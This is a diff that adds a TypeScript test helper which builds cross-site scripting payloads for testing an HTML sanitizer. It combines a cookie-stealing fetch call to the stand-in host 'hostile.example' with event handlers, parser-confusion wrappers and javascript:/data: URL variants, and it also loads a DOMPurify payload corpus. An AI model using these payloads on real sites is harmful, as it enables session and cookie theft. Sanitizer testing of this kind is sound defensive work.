@@ -1,0 +1,91 @@
+import { existsSync, readFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { root } from '../project.ts'
+
+/** Where every hostile text tries to go; nothing of ours ever does. */
+export const hostileHost = 'hostile.example'
+
+const code = `window.hostileRan=1;fetch('https://${hostileHost}/'+document.cookie)`
+
+const elements = [
+  'img src=x', `img src=https://${hostileHost}/a.png`, 'svg', 'body', 'html', 'iframe src=x', 'video src=x', 'audio src=x',
+  'input autofocus', 'details open', 'marquee', 'object data=x', 'embed src=x', 'select autofocus',
+  'textarea autofocus', 'p tabindex=0', 'strong', 'ol', 'li', 'math', 'br', 'u', 'sub', 'a href=#',
+] // biome-ignore format: one list, read as one
+
+const handlers = [
+  'onload',
+  'onerror',
+  'onfocus',
+  'onmouseover',
+  'onclick',
+  'ontoggle',
+  'ONERROR',
+  'on\terror',
+]
+
+/** Parts in which a parser reads the rest differently from the next parser. */
+const wrappers: ((inner: string) => string)[] = [
+  (inner) => `<noscript><p title="</noscript>${inner}">`,
+  (inner) => `<title>${inner}</title>`,
+  (inner) => `<textarea></textarea>${inner}`,
+  (inner) => `<style><!--</style>${inner}-->`,
+  (inner) => `<xmp>${inner}</xmp>`,
+  (inner) => `<noembed>${inner}</noembed>`,
+  (inner) => `<iframe srcdoc="${inner.replaceAll('"', '&quot;')}"></iframe>`,
+  (inner) => `<plaintext>${inner}`,
+  (inner) => `<template>${inner}</template>`,
+  (inner) => `<math><mtext><table><mglyph><style><!--</style>${inner}`,
+  (inner) => `<svg><style>${inner}</style></svg>`,
+  (inner) => `<svg><foreignObject><p>${inner}</p></foreignObject></svg>`,
+  (inner) => `<table><td>${inner}`,
+  (inner) => `<select><option>${inner}</select>`,
+  (inner) => `<form><form>${inner}`,
+  (inner) => `<!-- --!>${inner}`,
+  (inner) => `<![CDATA[${inner}]]>`,
+  (inner) => `<p style="x:</style>${inner}">`,
+  (inner) => `&lt;p&gt;${inner}`,
+  (inner) => `<ol><li data-list="bullet${inner}">x</li></ol>`,
+  (inner) => `<<p>${inner}`,
+  (inner) => `<p/${inner}`,
+]
+const payloads = [
+  `<script>${code}</script>`,
+  `<img src=x onerror="${code}">`,
+  `<svg/onload="${code}">`,
+  `"><img src=x onerror=${code}>`,
+]
+
+const addresses = [
+  `javascript:${code}`, `JaVaScRiPt:${code}`, `java\tscript:${code}`, `&#106;avascript:${code}`,
+  `data:text/html,<script>${code}</script>`, `vbscript:${code}`, `//${hostileHost}/x`,
+] // biome-ignore format: one list, read as one
+const holders = [
+  (address: string) => `<a href="${address}">a</a>`,
+  (address: string) => `<svg><a xlink:href="${address}"><text>a</text></a></svg>`,
+  (address: string) => `<form action="${address}"><button>a</button></form>`,
+  (address: string) => `<p style="background:url(${address})">a</p>`,
+  (address: string) => `<link rel="stylesheet" href="${address}">a`,
+  (address: string) => `<meta http-equiv="refresh" content="0;url=${address}">a`,
+  (address: string) => `<base href="${address}">a`,
+  (address: string) => `<object data="${address}"></object>a`,
+]
+
+/** Texts that try to run something or to call home when a page shows them: our own, and a known collection where it is at hand. */
+export function hostileTexts(): string[] {
+  const own = [
+    ...elements.flatMap((element) =>
+      handlers.map((handler) => `<${element} ${handler}="${code}">a`),
+    ),
+    ...wrappers.flatMap((wrap) => payloads.map(wrap)),
+    ...holders.flatMap((hold) => addresses.map(hold)),
+  ]
+  return [...own, ...collected()]
+}
+
+function collected(): string[] {
+  const file = join(root, '../shared/corpora/xss-html/dompurify_payloads.json')
+  if (!existsSync(file)) return []
+  const entries = JSON.parse(readFileSync(file, 'utf8')) as { payload: string }[]
+  return entries.map(({ payload }) => payload)
+}
